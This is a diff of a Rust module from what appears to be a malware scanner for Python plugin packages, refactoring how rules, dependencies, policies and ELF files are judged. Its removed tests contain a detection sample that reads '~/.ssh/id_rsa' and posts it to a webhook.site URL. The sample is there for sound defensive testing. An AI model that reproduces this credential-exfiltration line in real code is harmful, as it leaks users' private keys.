@@ -1,32 +1,41 @@
-//! Judges what an analysis found by rules, which are data: each is a file in `data/rules/` with a hit and a no-hit.
+//! Judges a package by rules, which are data: each is a file in `data/rules/` with a hit and a no-hit.
 //!
 //! A scan is a reader's help. The sandbox is the border.
 
 mod advisory;
-mod code;
+mod compared;
 mod declared;
+mod dependencies;
 mod hit;
+mod judged;
+mod object;
+mod pep440;
+mod policy;
+mod script;
+#[cfg(test)]
+mod tests;
+mod text;
 
-use std::io;
+use std::fs::{self, File};
+use std::io::{self, Read as _};
 use std::path::Path;
 
 use crate::budget::{Budget, Limits};
-use crate::model::{Analysis, Finding};
+use crate::elf;
+use crate::model::{Analysis, Finding, FindingKind};
+use crate::rule::{Found, rules};
 use crate::verdict::Verdict;
 use crate::walk::{SourceFile, failed, in_large_thread, list, read_files, sort};
 
 pub use advisory::Advisories;
 pub use declared::Declared;
+pub(crate) use dependencies::POPULAR;
 pub use hit::{Hit, MAX_HITS, Scan};
+use judged::{Judged, Told};
+pub use policy::Policy;
 
-/// What an operator demands of code. A hit is suspicious.
-#[derive(Clone, Debug, Default, PartialEq, Eq)]
-pub struct Policy {
-    /// Top-level modules that may be imported beside Python's library, the package and its `vendor/`. Empty: all.
-    pub allowed_imports: Vec<String>,
-    /// Modules that may not be imported, such as `ctypes` or `os.path`.
-    pub denied_imports: Vec<String>,
-}
+/// Bytes of a file that is read as text. What is longer is no source that a person has written.
+const TEXT_BYTES: u64 = 4 * 1024 * 1024;
 
 /// Judges an unpacked package.
 pub fn scan_folder(
@@ -37,7 +46,7 @@ pub fn scan_folder(
     limits: &Limits,
 ) -> io::Result<Scan> {
     let (files, found) = list(folder, limits)?;
-    Ok(judge(files, &found, declared, policy, advisories, limits))
+    Ok(Package { files, found, declared, policy, advisories }.judge(limits))
 }
 
 /// Judges the files of a package.
@@ -48,95 +57,109 @@ pub fn scan_files(
     advisories: &Advisories,
     limits: &Limits,
 ) -> Scan {
-    judge(files, &[], declared, policy, advisories, limits)
+    Package { files, found: Vec::new(), declared, policy, advisories }.judge(limits)
 }
 
-fn judge(
-    mut files: Vec<SourceFile>,
-    found: &[Finding],
-    _declared: Option<&Declared>,
-    _policy: &Policy,
-    _advisories: &Advisories,
-    limits: &Limits,
-) -> Scan {
-    sort(&mut files);
-    let read = || {
-        let budget = Budget::new(limits);
-        let mut analysis = read_files(&files, &budget);
-        analysis.findings.extend_from_slice(found);
-        scan(&analysis)
-    };
-    let scan = in_large_thread(read).unwrap_or_else(|message| scan(&failed(&message)));
-    Scan { files: files.len(), ..scan }
-}
-
-/// Judges what an analysis found. Files that could not be read are hits, too.
+/// Judges what an analysis of Python and ELF files found. Files that could not be read are hits, too.
 pub fn scan(analysis: &Analysis) -> Scan {
-    let mut hits = Vec::new();
-    for finding in &analysis.findings {
-        hits.push(Hit {
-            rule: "unreadable".to_owned(),
-            verdict: Verdict::Notes,
-            path: finding.path.clone(),
-            place: finding.place,
-            what: finding.message.clone(),
-            reason: "What cannot be read is not judged.".to_owned(),
-            how: "Repair the file, or leave it out of the package.".to_owned(),
-        });
-    }
-    hits.extend(code::hits(analysis));
-    Scan {
-        files: analysis.modules.len() + analysis.objects.len(),
-        is_complete: analysis.is_complete(),
-        ..Scan::of(hits)
-    }
+    let mut judged = Judged::default();
+    judge_analysis(&mut judged, analysis);
+    let files = analysis.modules.len() + analysis.objects.len();
+    Scan { files, is_complete: analysis.is_complete(), ..Scan::of(judged.into_hits()) }
 }
 
-#[cfg(test)]
-mod tests {
-    use std::collections::BTreeSet;
+/// A package with what it is judged by.
+struct Package<'a> {
+    files: Vec<SourceFile>,
+    /// What in its folder is no file.
+    found: Vec<Finding>,
+    declared: Option<&'a Declared>,
+    policy: &'a Policy,
+    advisories: &'a Advisories,
+}
 
-    use super::*;
-    use crate::rule::rules;
-    use crate::{Limits, analyze_source};
-
-    fn scanned(code: &str) -> Scan {
-        let analysis = analyze_source("main.py", code.as_bytes(), &Limits::default());
-        assert_eq!(analysis.findings, [], "{code}");
-        scan(&analysis)
+impl Package<'_> {
+    fn judge(mut self, limits: &Limits) -> Scan {
+        sort(&mut self.files);
+        let count = self.files.len();
+        let judged = in_large_thread(|| self.judged(&Budget::new(limits)));
+        let scan = judged.unwrap_or_else(|message| scan(&failed(&message)));
+        Scan { files: count, ..scan }
     }
 
-    #[test]
-    fn every_rule_hits_its_hit_and_nothing_else() {
-        let mut wrong = Vec::new();
-        for rule in rules() {
-            let names = |code: &str| scanned(code).hits.into_iter().map(|hit| hit.rule).collect::<BTreeSet<_>>();
-            let expected = std::iter::once(&rule.id).chain(&rule.also).cloned().collect::<BTreeSet<_>>();
-            if names(&rule.hit) != expected {
-                wrong.push(format!("{}: {:?}: {}", rule.id, names(&rule.hit), rule.hit));
+    fn judged(&self, budget: &Budget) -> Scan {
+        let mut analysis = read_files(&self.files, budget);
+        analysis.findings.extend_from_slice(&self.found);
+        let mut judged = Judged::default();
+        let mut manifest = String::new();
+        for file in self.files.iter().take(budget.limits.files) {
+            if !budget.has_time() {
+                let message = "there was no time to look for texts in all files".to_owned();
+                analysis.findings.push(Finding { kind: FindingKind::Time, path: String::new(), place: None, message });
+                break;
             }
-            let harmless = scanned(&rule.no_hit);
-            if harmless.verdict > Verdict::Notes || harmless.hits.iter().any(|hit| hit.rule == rule.id) {
-                wrong.push(format!("{}: {:?}", rule.id, harmless.hits));
+            // What cannot be read was told by the analysis.
+            let Some(bytes) = read(file) else { continue };
+            match file.path.as_str() {
+                "plugin.yaml" => manifest = String::from_utf8_lossy(&bytes).into_owned(),
+                "vendor.lock" => dependencies::judge(&mut judged, &bytes, self.advisories),
+                _ => {}
+            }
+            if !bytes.starts_with(elf::MAGIC) {
+                text::judge(&mut judged, &file.path, &bytes);
+            } else if !file.path.starts_with("vendor/") {
+                text::program(&mut judged, &file.path, &bytes);
             }
         }
-        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+        judge_analysis(&mut judged, &analysis);
+        if let Some(declared) = self.declared {
+            dependencies::judge_wishes(&mut judged, declared, &manifest);
+            judged.extend(compared::hits(&analysis, declared, &manifest));
+        }
+        let paths: Vec<&str> = self.files.iter().map(|file| file.path.as_str()).collect();
+        judged.extend(self.policy.hits(&analysis, &paths));
+        Scan { is_complete: analysis.is_complete(), ..Scan::of(judged.into_hits()) }
     }
+}
 
-    #[test]
-    fn two_stages_in_one_file_are_malicious() {
-        let collect = "import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n";
-        assert_eq!(scanned(collect).verdict, Verdict::Suspicious);
-        let sent = format!("{collect}import requests\nrequests.post('https://webhook.site/x', data=key)\n");
-        let scan = scanned(&sent);
-        assert_eq!(scan.verdict, Verdict::Malicious);
-        assert!(scan.hits.iter().any(|hit| hit.place.unwrap().line == 4 && hit.rule == "drop-host"), "{scan:?}");
-        assert_eq!(scanned("import json\nprint(json.dumps({}))\n").verdict, Verdict::Clean);
+/// The bytes of a regular file, up to the most that is looked at.
+fn read(file: &SourceFile) -> Option<Vec<u8>> {
+    fs::symlink_metadata(&file.from).ok().filter(fs::Metadata::is_file)?;
+    let mut bytes = Vec::new();
+    File::open(&file.from).ok()?.take(TEXT_BYTES).read_to_end(&mut bytes).ok()?;
+    Some(bytes)
+}
+
+const UNREADABLE: Told = Told {
+    rule: "unreadable",
+    verdict: Verdict::Notes,
+    vendor: Verdict::Clean,
+    reason: "What cannot be read is not judged.",
+    how: "Repair the file, or leave it out of the package.",
+};
+
+/// Code that is made so that a reader gives up hides something, or is no code.
+const TOO_COSTLY: Told = Told {
+    rule: "too-costly",
+    verdict: Verdict::Suspicious,
+    vendor: Verdict::Notes,
+    reason: "The file costs more to read than what a person would write, so that not all of it was judged.",
+    how: "Split the file, or put its data into a file of its own.",
+};
+
+fn judge_analysis(judged: &mut Judged, analysis: &Analysis) {
+    for finding in &analysis.findings {
+        let is_costly = matches!(finding.kind, FindingKind::TooDeep | FindingKind::TooLarge | FindingKind::Folding);
+        let told = if is_costly { &TOO_COSTLY } else { &UNREADABLE };
+        judged.tell(told, &finding.path, finding.place, finding.message.clone());
     }
-
-    #[test]
-    fn what_cannot_be_read_is_not_clean() {
-        let analysis = analyze_source("main.py", b"x = (\n", &Limits::default());
-        assert_eq!(scan(&analysis).verdict, Verdict::Notes);
+    for module in &analysis.modules {
+        for rule in rules() {
+            let found: Vec<Found> = rule.find(module);
+            judged.add(rule, &module.path, found);
+        }
+    }
+    for object in &analysis.objects {
+        judged.extend(object::hits(object));
     }
 }
